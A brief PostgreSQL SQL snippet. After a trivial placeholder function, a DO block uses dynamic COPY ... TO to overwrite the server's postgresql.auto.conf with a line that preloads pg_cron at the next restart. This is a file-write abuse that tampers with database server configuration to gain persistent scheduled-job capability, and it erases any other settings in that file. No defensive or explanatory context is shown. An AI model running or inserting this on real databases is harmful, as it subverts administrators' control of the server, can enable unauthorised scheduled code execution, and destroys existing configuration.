CREATE FUNCTION fn_note() RETURNS integer LANGUAGE sql AS 'SELECT 1';
-- The server's configuration rewritten through COPY: pg_cron at the next restart.
DO $$
BEGIN
  EXECUTE format('COPY (SELECT %L) TO %L', 'shared_preload_libraries = ''pg_cron''',
                 current_setting('data_directory') || '/postgresql.auto.conf');
END
$$;
